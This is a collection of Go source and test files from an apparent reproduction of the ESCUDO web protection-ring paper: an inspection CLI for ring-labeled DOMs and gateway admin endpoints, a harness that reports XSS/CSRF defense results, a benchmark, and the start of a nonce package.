	policyFile := fs.String("policy", "", "unified escudo.Policy JSON document to validate and mount")
	var queries queryList
	fs.Var(&queries, "query", "access query ring:op:id[@guest-origin] (repeatable), e.g. 3:write:post or 0:write:slot@http://widget.example")
	showRender := fs.Bool("render", false, "also print the text rendering")
	tracezAddr := fs.String("tracez", "", "fetch decision traces from a live gateway's admin /tracez at this host:port and pretty-print them")
	traceID := fs.String("trace", "", "with -tracez, show only this trace ID")
	slowzAddr := fs.String("slowz", "", "fetch tail exemplars from a live gateway's admin /slowz at this host:port and pretty-print them")
	phase := fs.String("phase", "", "with -slowz, show only this phase label")
	policyzAddr := fs.String("policyz", "", "fetch the mounted policy fleet from a live gateway's admin /policyz at this host:port and print per-origin versions")
	watch := fs.Bool("watch", false, "with -policyz, keep long-polling and stream generation flips as they land")
	if err := fs.Parse(args); err != nil {
		return err
	}

	if *tracezAddr != "" {
		return runTracez(*tracezAddr, *traceID)
	}
	if *traceID != "" {
		return fmt.Errorf("-trace needs -tracez (the gateway admin address to fetch from)")
	}
	if *slowzAddr != "" {
		return runSlowz(*slowzAddr, *phase)
	}
	if *phase != "" {
		return fmt.Errorf("-phase needs -slowz (the gateway admin address to fetch from)")
	}
	if *policyzAddr != "" {
		stop := make(chan struct{})
		if *watch {
			ch := make(chan os.Signal, 1)
			signal.Notify(ch, os.Interrupt, syscall.SIGTERM)
			go func() {
				<-ch
				close(stop)
			}()
		}
		return runPolicyz(os.Stdout, *policyzAddr, *watch, stop)
	}
	if *watch {
		return fmt.Errorf("-watch needs -policyz (the gateway admin address to poll)")
	}

	markup := demoPage
	if fs.NArg() > 0 {
		data, err := os.ReadFile(fs.Arg(0))
		if err != nil {
			return err
		}
		markup = string(data)
	}

	pageOrigin := origin.MustParse("http://inspected.example")
	ringCount := core.Ring(*maxRing)

	// The query monitor: a plain ERM, or — with a policy document —
	// the composed pipeline with the document's delegations mounted.
	monitor := escudo.Compose(&core.ERM{})
	if *policyFile != "" {
		data, err := os.ReadFile(*policyFile)
		if err != nil {
			return err
		}
		pol, err := escudo.ParsePolicy(data)
		if err != nil {
			return err
		}
		pageOrigin, err = origin.Parse(pol.Origin)
		if err != nil {
			return err
		}
		ringCount = pol.MaxRing
		dp, err := pol.DelegationPolicy()
		if err != nil {
			return err
		}
		monitor = escudo.Compose(&core.ERM{}, escudo.DelegationLayer(dp))
		fmt.Printf("Policy document %s: valid\n\n%s\n", *policyFile, pol.Summary())
	}

	doc := dom.NewDocument(pageOrigin, markup, html.Options{
		Escudo:  true,
		MaxRing: ringCount,
		// Top-level unlabeled content takes the fail-safe default.
		BaseRing: ringCount,
		BaseACL:  core.ACL{},
	})

	fmt.Printf("Labeled DOM (N=%d, origin %s):\n\n", ringCount, pageOrigin)
	dumpTree(doc.Root, 0)

	if bad := doc.CheckScopingInvariant(); bad != nil {
		fmt.Printf("\nWARNING: scoping invariant violated at %s\n", describe(bad))
	} else {
		fmt.Printf("\nScoping invariant: OK\n")
	}

	if len(queries) > 0 {
		fmt.Println("\nAccess queries:")
		for _, q := range queries {
			if err := answerQuery(monitor, doc, pageOrigin, ringCount, q); err != nil {
				return err
			}
		}
	}

	if *showRender {
		fmt.Println("\nRendering:")
		fmt.Println(layout.RenderText(layout.Layout(doc.Root, 72), 72))
	}
	return nil
}

// printPolicyzDoc renders one /policyz document: the fleet generation
// headline, then one line per origin in sorted order.
func printPolicyzDoc(out io.Writer, addr string, doc ctlplane.PolicyzDoc) error {
	fmt.Fprintf(out, "Policy fleet at %s — generation %d, %d origins\n", addr, doc.Generation, len(doc.Policies))
	origins := make([]string, 0, len(doc.Policies))
	for o := range doc.Policies {
		origins = append(origins, o)
	}
	sort.Strings(origins)
	for _, o := range origins {
		pol, err := escudo.ParsePolicy(doc.Policies[o])
		if err != nil {
			return fmt.Errorf("policy document for %s: %w", o, err)
		}
		fmt.Fprintf(out, "  %-40s rev %-4d maxring %d, %d delegations\n",
			o, doc.Revs[o], pol.MaxRing, len(pol.Delegations))
	}
	return nil
}

// runPolicyz fetches and prints a live gateway's policy fleet; with
// watch it then streams generation flips (one line per flip, the
// origins whose rev moved) until stop closes.
func runPolicyz(out io.Writer, addr string, watch bool, stop <-chan struct{}) error {
	doc, err := ctlplane.FetchPolicyz(context.Background(), nil, "http", addr)
	if err != nil {
		return fmt.Errorf("fetching /policyz from %s: %w", addr, err)
	}
	if err := printPolicyzDoc(out, addr, doc); err != nil {
		return err
	}
	if !watch {
		return nil
	}

	// stop governs only the watch loop: it cancels a parked long poll
	// so an interrupt exits promptly instead of waiting out the hold.
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	go func() {
		<-stop
		cancel()
	}()

	fmt.Fprintf(out, "\nwatching for flips (interrupt to stop)...\n")
	const hold = 10 * time.Second
	prev := doc
	for {
		next, err := ctlplane.FetchPolicyzWait(ctx, nil, "http", addr, prev.Generation, hold)
		if err != nil {
			if ctx.Err() != nil {
				return nil // interrupted mid-poll: a clean exit, not an error
			}
			return fmt.Errorf("long-polling /policyz: %w", err)
		}
		if next.Generation == prev.Generation {
			continue // hold expired unchanged; park again
		}
		// Name what moved: revs that changed or origins that appeared.
		var moved []string
		for o, rev := range next.Revs {
			if prev.Revs[o] != rev {
				moved = append(moved, fmt.Sprintf("%s rev %d", o, rev))
			}
		}
		for o := range prev.Revs {
			if _, ok := next.Revs[o]; !ok {
				moved = append(moved, o+" unmounted")
			}
		}
		sort.Strings(moved)
		fmt.Fprintf(out, "flip: generation %d → %d — %s\n",
			prev.Generation, next.Generation, strings.Join(moved, ", "))
		prev = next
		select {
		case <-ctx.Done():
			return nil
		default:
		}
	}
}

// tracezDoc mirrors the gateway's /tracez JSON document.
type tracezDoc struct {
	Total    uint64              `json:"total"`
	Retained int                 `json:"retained"`
	Matched  int                 `json:"matched"`
	Events   []obs.DecisionEvent `json:"events"`
}

// runTracez fetches the decision-trace ring from a live gateway and
// pretty-prints it, grouped by trace in span order.
func runTracez(addr, traceID string) error {
	u := "http://" + addr + "/tracez"
	if traceID != "" {
		u += "?trace=" + url.QueryEscape(traceID)
	}
	client := &http.Client{Timeout: 10 * time.Second}
	resp, err := client.Get(u)
	if err != nil {
		return fmt.Errorf("fetching %s: %w", u, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode == http.StatusNotFound {
		return fmt.Errorf("%s answered 404 — is this the gateway's admin host, and does the deployment wire a decision ring?", u)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s answered %d", u, resp.StatusCode)
	}
	var doc tracezDoc
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return fmt.Errorf("decoding /tracez: %w", err)
	}

	fmt.Printf("Decision traces at %s: %d recorded, %d retained, %d matched\n",
		addr, doc.Total, doc.Retained, doc.Matched)
	if len(doc.Events) == 0 {
		if traceID != "" {
			fmt.Printf("\nNo events for trace %s — the ring holds the last %d decisions, so older traces age out.\n",
				traceID, doc.Retained)
		}
		return nil
	}

	// Group by trace, preserving the order traces first appear; within
	// a trace the ring is already oldest-first, so spans come out
	// ascending.
	order := []string{}
	byTrace := map[string][]obs.DecisionEvent{}
	for _, e := range doc.Events {
		id := e.TraceID
		if id == "" {
			id = "(untraced)"
		}
		if _, ok := byTrace[id]; !ok {
			order = append(order, id)
		}
		byTrace[id] = append(byTrace[id], e)
	}
	for _, id := range order {
		events := byTrace[id]
		fmt.Printf("\ntrace %s — %d decisions:\n", id, len(events))
		for _, e := range events {
			verdict := "ALLOW"
			if !e.Allowed {
				verdict = "DENY "
			}
			fmt.Printf("  span %-4d %s %-28s %s on %s (ring %d, %s) [%s]\n",
				e.Span, verdict, e.Rule, e.Principal, e.Object, e.Ring, e.Origin, e.Op)
		}
	}
	return nil
}

// slowzDoc mirrors the gateway's /slowz JSON document.
type slowzDoc struct {
	Phases    []string           `json:"phases"`
	Size      int                `json:"size"`
	Exemplars []obs.SlowExemplar `json:"exemplars"`
}

// runSlowz fetches the tail-exemplar ring from a live gateway and
// pretty-prints it: one block per exemplar (slowest first, the order
// the endpoint serves), with the per-stage breakdown in pipeline
// order and each stage's share of the total.
func runSlowz(addr, phase string) error {
	u := "http://" + addr + "/slowz"
	if phase != "" {
		u += "?phase=" + url.QueryEscape(phase)
	}
	client := &http.Client{Timeout: 10 * time.Second}
	resp, err := client.Get(u)
	if err != nil {
		return fmt.Errorf("fetching %s: %w", u, err)
	}
	defer resp.Body.Close()
	if resp.StatusCode == http.StatusNotFound {
		return fmt.Errorf("%s answered 404 — is this the gateway's admin host, and does the deployment wire a slow ring?", u)
	}
	if resp.StatusCode != http.StatusOK {
		return fmt.Errorf("%s answered %d", u, resp.StatusCode)
	}
	var doc slowzDoc
	if err := json.NewDecoder(resp.Body).Decode(&doc); err != nil {
		return fmt.Errorf("decoding /slowz: %w", err)
	}

	fmt.Printf("Tail exemplars at %s: phases [%s], slowest %d retained per phase\n",
		addr, strings.Join(doc.Phases, " "), doc.Size)
	if len(doc.Exemplars) == 0 {
		if phase != "" {
			fmt.Printf("\nNo exemplars for phase %q — known phases: %s\n", phase, strings.Join(doc.Phases, ", "))
		} else {
			fmt.Println("\nNo exemplars retained yet — the ring fills as requests complete.")
		}
		return nil
	}
	for _, ex := range doc.Exemplars {
		fmt.Printf("\n%.3f ms  trace %s  (phase %s)\n", float64(ex.TotalNs)/1e6, ex.TraceID, ex.Phase)
		// Stages print in pipeline order, not map order; batch_auth
		// nests inside script_vm/render, so shares are attribution,
		// not a partition of the total.
		for _, name := range obs.StageNames() {
			ns, ok := ex.Stages[name]
			if !ok || ns == 0 {
				continue
			}
			share := 0.0
			if ex.TotalNs > 0 {
				share = 100 * float64(ns) / float64(ex.TotalNs)
			}
			fmt.Printf("    %-12s %10.3f ms  (%5.1f%%)\n", name, float64(ns)/1e6, share)
		}
	}
	fmt.Println("\nTrace IDs join against -tracez: escudo-inspect -tracez " + addr + " -trace <ID>")
	return nil
}

// dumpTree prints the labeled tree.
func dumpTree(n *html.Node, depth int) {
	indent := strings.Repeat("  ", depth)
	switch n.Type {
	case html.ElementNode:
		ac := ""
		if n.IsACTag {
			ac = "  [AC tag]"
		}
		fmt.Printf("%s<%s>  ring=%d  acl{%s}%s\n", indent, describe(n), n.Ring, n.ACL, ac)
	case html.TextNode:
		text := strings.TrimSpace(n.Data)
		if text == "" {
			return
		}
		if len(text) > 40 {
			text = text[:40] + "…"
		}
		fmt.Printf("%s%q  ring=%d\n", indent, text, n.Ring)
	case html.DocumentNode:
		fmt.Printf("%s#document\n", indent)
	default:
		return
	}
	for _, k := range n.Kids {
		dumpTree(k, depth+1)
	}
}

func describe(n *html.Node) string {
	if id, ok := n.Attr("id"); ok {
		return n.Tag + "#" + id
	}
	return n.Tag
}

// answerQuery evaluates one ring:op:id[@guest-origin] query.
func answerQuery(m core.Monitor, doc *dom.Document, o origin.Origin, maxRing core.Ring, q string) error {
	parts := strings.Split(q, ":")
	if len(parts) < 3 {
		return fmt.Errorf("bad query %q (want ring:op:id[@guest-origin])", q)
	}
	ring, err := core.ParseRing(parts[0], core.MaxSupportedRing)
	if err != nil {
		return err
	}
	var op core.Op
	switch parts[1] {
	case "read":
		op = core.OpRead
	case "write":
		op = core.OpWrite
	case "use":
		op = core.OpUse
	default:
		return fmt.Errorf("bad op %q", parts[1])
	}
	// The id may carry a guest-origin suffix; the origin itself
	// contains ':', so rejoin the remaining parts before splitting on
	// '@'.
	idAndGuest := strings.Join(parts[2:], ":")
	id := idAndGuest
	principalOrigin := o
	label := fmt.Sprintf("ring-%d principal", ring)
	if at := strings.Index(idAndGuest, "@"); at >= 0 {
		id = idAndGuest[:at]
		principalOrigin, err = origin.Parse(idAndGuest[at+1:])
		if err != nil {
			return fmt.Errorf("bad guest origin in %q: %w", q, err)
		}
		label = fmt.Sprintf("ring-%d principal of %s", ring, principalOrigin)
	}
	node := doc.ByID(id)
	if node == nil {
		return fmt.Errorf("no element with id %q", id)
	}
	if ring > maxRing {
		return fmt.Errorf("query ring %d exceeds page ring count %d", ring, maxRing)
	}
	d := m.Authorize(core.Principal(principalOrigin, ring, label), op, doc.NodeContext(node))
	fmt.Printf("  %s\n", d)
	return nil
}
