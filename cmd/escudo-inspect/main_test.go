package main

import (
	"os"
	"path/filepath"
	"testing"
)

func TestRunDemoPage(t *testing.T) {
	if err := run([]string{"-query", "3:write:post", "-query", "0:write:post", "-render"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "page.html")
	if err := os.WriteFile(path, []byte(`<div ring=1 r=1 w=1 x=1 id=x>hi</div>`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-query", "1:read:x", path}); err != nil {
		t.Fatal(err)
	}
}

func TestRunErrors(t *testing.T) {
	cases := [][]string{
		{"/does/not/exist.html"},
		{"-query", "nonsense"},
		{"-query", "9zz:read:post"},
		{"-query", "1:chew:post"},
		{"-query", "1:read:missing-id"},
		{"-bogus"},
	}
	for _, args := range cases {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}
