package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	escudo "repro"
	"repro/internal/ctlplane"
	"repro/internal/httpd"
	"repro/internal/obs"
	"repro/internal/origin"
	"repro/internal/scenarios"
	"repro/internal/web"
)

func TestRunDemoPage(t *testing.T) {
	if err := run([]string{"-query", "3:write:post", "-query", "0:write:post", "-render"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "page.html")
	if err := os.WriteFile(path, []byte(`<div ring=1 r=1 w=1 x=1 id=x>hi</div>`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-query", "1:read:x", path}); err != nil {
		t.Fatal(err)
	}
}

func TestRunErrors(t *testing.T) {
	cases := [][]string{
		{"/does/not/exist.html"},
		{"-query", "nonsense"},
		{"-query", "9zz:read:post"},
		{"-query", "1:chew:post"},
		{"-query", "1:read:missing-id"},
		{"-bogus"},
	}
	for _, args := range cases {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunTracez exercises the live-gateway mode: -tracez fetches the
// decision ring from a running gateway's admin endpoint, and -trace
// narrows it to one trace ID.
func TestRunTracez(t *testing.T) {
	ring := obs.NewDecisionRing(16)
	ring.Record(obs.DecisionEvent{
		TraceID: "aaaa-01", Span: 1, Origin: "http://site.example", Ring: 2,
		Allowed: true, Rule: "same-origin ring access",
		Principal: "⟨http://site.example, ring 2⟩", Op: "read", Object: "div#post",
	})
	ring.Record(obs.DecisionEvent{
		TraceID: "bbbb-02", Span: 1, Origin: "http://site.example", Ring: 1,
		Allowed: false, Rule: "ring too low",
		Principal: "⟨http://evil.example, ring 3⟩", Op: "write", Object: "div#chrome",
	})
	gw, _, cleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{Ring: ring}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()

	for _, args := range [][]string{
		{"-tracez", gw.Addr()},
		{"-tracez", gw.Addr(), "-trace", "aaaa-01"},
		{"-tracez", gw.Addr(), "-trace", "no-such-trace"},
	} {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}

	// A gateway without a ring answers 404, which must surface as a
	// helpful error; -trace without -tracez is a usage error.
	bare, _, bareCleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer bareCleanup()
	for _, args := range [][]string{
		{"-tracez", bare.Addr()},
		{"-trace", "aaaa-01"},
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunSlowz exercises the tail-exemplar mode against a real
// gateway: -slowz fetches the slow ring from the admin endpoint,
// -phase narrows it, and the 404/usage failure paths surface as
// errors.
func TestRunSlowz(t *testing.T) {
	slow := obs.NewSlowRing(0)
	var stages [obs.NumStages]int64
	stages[obs.StageHandler] = 3_000_000
	stages[obs.StageBatchAuth] = 1_500_000
	slow.Record("openloop", "cccc-03", 5*time.Millisecond, stages)
	slow.Record("gateway", "dddd-04", 2*time.Millisecond, [obs.NumStages]int64{})
	gw, _, cleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{Slow: slow}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()

	for _, args := range [][]string{
		{"-slowz", gw.Addr()},
		{"-slowz", gw.Addr(), "-phase", "openloop"},
		{"-slowz", gw.Addr(), "-phase", "no-such-phase"},
	} {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}

	// A gateway without a slow ring answers 404, which must surface as
	// a helpful error; -phase without -slowz is a usage error.
	bare, _, bareCleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer bareCleanup()
	for _, args := range [][]string{
		{"-slowz", bare.Addr()},
		{"-phase", "openloop"},
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunWithPolicy exercises the -policy path: a unified document is
// loaded, its ring count labels the page, and delegation queries
// answer through the mounted §7 layer.
func TestRunWithPolicy(t *testing.T) {
	dir := t.TempDir()
	pol := escudo.NewPolicy(escudo.MustParseOrigin("http://portal.example"), 3)
	pol.Cookies["portalsession"] = escudo.UniformAssignment(1)
	pol.Delegate(escudo.MustParseOrigin("http://widget.example"), 2)
	data, err := pol.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	polPath := filepath.Join(dir, "policy.json")
	if err := os.WriteFile(polPath, data, 0o644); err != nil {
		t.Fatal(err)
	}
	pagePath := filepath.Join(dir, "page.html")
	page := `<div ring=1 r=1 w=1 x=1 id=chrome>chrome</div><div ring=2 r=2 w=2 x=2 id=slot>slot</div>`
	if err := os.WriteFile(pagePath, []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{
		"-policy", polPath,
		"-query", "0:write:slot@http://widget.example",
		"-query", "0:write:chrome@http://widget.example",
		"-query", "0:read:slot@http://rogue.example",
		"-query", "1:write:chrome",
		pagePath,
	}); err != nil {
		t.Fatal(err)
	}
	// Invalid documents and bad guest origins fail loudly.
	badPath := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(badPath, []byte(`{"version":7}`), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"-policy", badPath},
		{"-policy", filepath.Join(dir, "missing.json")},
		{"-policy", polPath, "-query", "0:read:slot@::nope::", pagePath},
		{"-policy", polPath, "-query", "9:read:slot", pagePath},
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunPolicyz exercises the control-plane view against a real
// gateway: the one-shot fleet listing, then -watch streaming a live
// reload as one flip line.
func TestRunPolicyz(t *testing.T) {
	n := web.NewNetwork()
	o := origin.MustParse("http://app.example")
	n.Register(o, scenarios.Handler())
	doc := scenarios.Policy(o)
	gw, _, cleanup, err := httpd.WrapNetwork(n, httpd.Config{
		Origins: map[string]httpd.OriginConfig{o.String(): {Policy: &doc}},
	}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()

	var buf bytes.Buffer
	stop := make(chan struct{})
	close(stop) // one-shot: no watch loop to interrupt
	if err := runPolicyz(&buf, gw.Addr(), false, stop); err != nil {
		t.Fatalf("runPolicyz: %v", err)
	}
	out := buf.String()
	if !strings.Contains(out, "generation 1, 1 origins") {
		t.Errorf("missing fleet headline in:\n%s", out)
	}
	if !strings.Contains(out, "http://app.example") || !strings.Contains(out, "rev 1") {
		t.Errorf("missing origin row in:\n%s", out)
	}

	// Watch mode: start the stream, push a reload, expect one flip
	// line, then stop.
	var watchBuf syncBuffer
	watchStop := make(chan struct{})
	watchErr := make(chan error, 1)
	go func() { watchErr <- runPolicyz(&watchBuf, gw.Addr(), true, watchStop) }()
	deadline := time.Now().Add(5 * time.Second)
	for !strings.Contains(watchBuf.String(), "watching for flips") {
		if time.Now().After(deadline) {
			t.Fatal("watch stream never printed its header")
		}
		time.Sleep(5 * time.Millisecond)
	}
	doc2 := scenarios.Policy(o)
	doc2.MaxRing = 2
	data, err := doc2.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ctlplane.PostReload(context.Background(), nil, "http", gw.Addr(), data); err != nil {
		t.Fatalf("PostReload: %v", err)
	}
	for !strings.Contains(watchBuf.String(), "flip: generation 1 → 2") {
		if time.Now().After(deadline) {
			t.Fatalf("flip never streamed; output:\n%s", watchBuf.String())
		}
		time.Sleep(5 * time.Millisecond)
	}
	if !strings.Contains(watchBuf.String(), "http://app.example rev 2") {
		t.Errorf("flip line does not name the moved origin:\n%s", watchBuf.String())
	}
	close(watchStop)
	select {
	case err := <-watchErr:
		if err != nil {
			t.Fatalf("watch exit: %v", err)
		}
	case <-time.After(5 * time.Second):
		t.Fatal("watch loop did not stop")
	}
}

// syncBuffer is a mutex-guarded bytes.Buffer: the watch goroutine
// writes while the test polls String.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}
