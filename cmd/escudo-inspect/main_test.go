package main

import (
	"os"
	"path/filepath"
	"testing"

	escudo "repro"
	"repro/internal/httpd"
	"repro/internal/obs"
	"repro/internal/web"
)

func TestRunDemoPage(t *testing.T) {
	if err := run([]string{"-query", "3:write:post", "-query", "0:write:post", "-render"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "page.html")
	if err := os.WriteFile(path, []byte(`<div ring=1 r=1 w=1 x=1 id=x>hi</div>`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{"-query", "1:read:x", path}); err != nil {
		t.Fatal(err)
	}
}

func TestRunErrors(t *testing.T) {
	cases := [][]string{
		{"/does/not/exist.html"},
		{"-query", "nonsense"},
		{"-query", "9zz:read:post"},
		{"-query", "1:chew:post"},
		{"-query", "1:read:missing-id"},
		{"-bogus"},
	}
	for _, args := range cases {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunTracez exercises the live-gateway mode: -tracez fetches the
// decision ring from a running gateway's admin endpoint, and -trace
// narrows it to one trace ID.
func TestRunTracez(t *testing.T) {
	ring := obs.NewDecisionRing(16)
	ring.Record(obs.DecisionEvent{
		TraceID: "aaaa-01", Span: 1, Origin: "http://site.example", Ring: 2,
		Allowed: true, Rule: "same-origin ring access",
		Principal: "⟨http://site.example, ring 2⟩", Op: "read", Object: "div#post",
	})
	ring.Record(obs.DecisionEvent{
		TraceID: "bbbb-02", Span: 1, Origin: "http://site.example", Ring: 1,
		Allowed: false, Rule: "ring too low",
		Principal: "⟨http://evil.example, ring 3⟩", Op: "write", Object: "div#chrome",
	})
	gw, _, cleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{Ring: ring}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer cleanup()

	for _, args := range [][]string{
		{"-tracez", gw.Addr()},
		{"-tracez", gw.Addr(), "-trace", "aaaa-01"},
		{"-tracez", gw.Addr(), "-trace", "no-such-trace"},
	} {
		if err := run(args); err != nil {
			t.Errorf("run(%v): %v", args, err)
		}
	}

	// A gateway without a ring answers 404, which must surface as a
	// helpful error; -trace without -tracez is a usage error.
	bare, _, bareCleanup, err := httpd.WrapNetwork(web.NewNetwork(), httpd.Config{}, "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer bareCleanup()
	for _, args := range [][]string{
		{"-tracez", bare.Addr()},
		{"-trace", "aaaa-01"},
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}

// TestRunWithPolicy exercises the -policy path: a unified document is
// loaded, its ring count labels the page, and delegation queries
// answer through the mounted §7 layer.
func TestRunWithPolicy(t *testing.T) {
	dir := t.TempDir()
	pol := escudo.NewPolicy(escudo.MustParseOrigin("http://portal.example"), 3)
	pol.Cookies["portalsession"] = escudo.UniformAssignment(1)
	pol.Delegate(escudo.MustParseOrigin("http://widget.example"), 2)
	data, err := pol.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	polPath := filepath.Join(dir, "policy.json")
	if err := os.WriteFile(polPath, data, 0o644); err != nil {
		t.Fatal(err)
	}
	pagePath := filepath.Join(dir, "page.html")
	page := `<div ring=1 r=1 w=1 x=1 id=chrome>chrome</div><div ring=2 r=2 w=2 x=2 id=slot>slot</div>`
	if err := os.WriteFile(pagePath, []byte(page), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := run([]string{
		"-policy", polPath,
		"-query", "0:write:slot@http://widget.example",
		"-query", "0:write:chrome@http://widget.example",
		"-query", "0:read:slot@http://rogue.example",
		"-query", "1:write:chrome",
		pagePath,
	}); err != nil {
		t.Fatal(err)
	}
	// Invalid documents and bad guest origins fail loudly.
	badPath := filepath.Join(dir, "bad.json")
	if err := os.WriteFile(badPath, []byte(`{"version":7}`), 0o644); err != nil {
		t.Fatal(err)
	}
	for _, args := range [][]string{
		{"-policy", badPath},
		{"-policy", filepath.Join(dir, "missing.json")},
		{"-policy", polPath, "-query", "0:read:slot@::nope::", pagePath},
		{"-policy", polPath, "-query", "9:read:slot", pagePath},
	} {
		if err := run(args); err == nil {
			t.Errorf("run(%v): want error", args)
		}
	}
}
