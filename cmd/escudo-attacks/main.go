// Command escudo-attacks regenerates the paper's §6.4 defense
// effectiveness evaluation: it runs the full attack corpus (4 XSS + 5
// CSRF per application, against the unhardened phpBB and PHP-Calendar
// re-implementations) under a legacy same-origin-policy browser and
// under the ESCUDO browser, and prints the verdicts.
//
// Expected shape (the paper's result): every attack succeeds under
// SOP; every attack is neutralized under ESCUDO.
package main

import (
	"fmt"
	"os"

	"repro/internal/attack"
	"repro/internal/browser"
	"repro/internal/metrics"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-attacks:", err)
		os.Exit(1)
	}
}

func run() error {
	sop := attack.RunAll(browser.ModeSOP)
	esc := attack.RunAll(browser.ModeEscudo)
	if len(sop) != len(esc) {
		return fmt.Errorf("result length mismatch: %d vs %d", len(sop), len(esc))
	}

	fmt.Println("ESCUDO §6.4 — defense effectiveness (unhardened apps)")
	fmt.Println()
	t := metrics.NewTable("Attack", "Kind", "App", "SOP browser", "ESCUDO browser")
	sopWins, escWins := 0, 0
	for i := range sop {
		if sop[i].Err != nil {
			return fmt.Errorf("%s under SOP: %w", sop[i].Attack.Name, sop[i].Err)
		}
		if esc[i].Err != nil {
			return fmt.Errorf("%s under ESCUDO: %w", esc[i].Attack.Name, esc[i].Err)
		}
		sopCell := "neutralized"
		if sop[i].Succeeded {
			sopCell = "SUCCEEDED"
			sopWins++
		}
		escCell := "neutralized"
		if esc[i].Succeeded {
			escCell = "SUCCEEDED"
			escWins++
		}
		t.AddRow(sop[i].Attack.Name, sop[i].Attack.Kind.String(), sop[i].Attack.App, sopCell, escCell)
	}
	fmt.Print(t.String())
	fmt.Printf("\nUnder SOP:    %d/%d attacks succeeded\n", sopWins, len(sop))
	fmt.Printf("Under ESCUDO: %d/%d attacks succeeded (paper: all neutralized)\n", escWins, len(esc))
	if escWins != 0 {
		return fmt.Errorf("%d attacks succeeded under ESCUDO", escWins)
	}
	return nil
}
