package main

import "testing"

// TestRun executes the full §6.4 harness; run returns an error if any
// attack succeeds under ESCUDO, so a nil result is the paper's
// headline reproduced.
func TestRun(t *testing.T) {
	if err := run(); err != nil {
		t.Fatal(err)
	}
}
