package main

import "testing"

func TestRunSmall(t *testing.T) {
	if err := run([]string{"-reps", "2", "-warmup", "1"}); err != nil {
		t.Fatal(err)
	}
}

func TestRunBadFlag(t *testing.T) {
	if err := run([]string{"-bogus"}); err == nil {
		t.Error("bad flag must error")
	}
}
