// Command escudo-bench regenerates the paper's Figure 4: parsing and
// rendering time over eight page scenarios, with and without ESCUDO,
// averaged over 90 repetitions, plus the average relative overhead
// (the paper reports 5.09%).
//
// Usage:
//
//	escudo-bench [-reps N] [-warmup N]
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/metrics"
	"repro/internal/scenarios"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "escudo-bench:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("escudo-bench", flag.ContinueOnError)
	reps := fs.Int("reps", 90, "timed repetitions per scenario (paper: 90)")
	warmup := fs.Int("warmup", 10, "untimed warmup repetitions")
	if err := fs.Parse(args); err != nil {
		return err
	}

	fmt.Println("ESCUDO Figure 4 — parsing and rendering overhead")
	fmt.Printf("(%d repetitions per scenario after %d warmups)\n\n", *reps, *warmup)

	rows := scenarios.Measure(*reps, *warmup)
	fmt.Print(scenarios.Table(rows))
	fmt.Printf("\nAverage overhead: %s (paper: +5.09%% on Lobo)\n",
		metrics.FormatPercent(scenarios.AverageOverhead(rows)))
	return nil
}
