// Package nonce implements the markup-randomization nonces that defend
// AC tags against node-splitting attacks (paper §5). A server
// generating a page stamps every AC tag with a fresh random nonce; the
// ESCUDO parser ignores any closing </div> whose nonce does not match
// the opening tag's, so injected content can never prematurely close
// an AC scope and open a higher-privileged one.
//
// "The random nonces are dynamically generated when constructing a web
// page, so adversaries cannot predict those numbers before they insert
// their malicious contents into a web page."
package nonce

import (
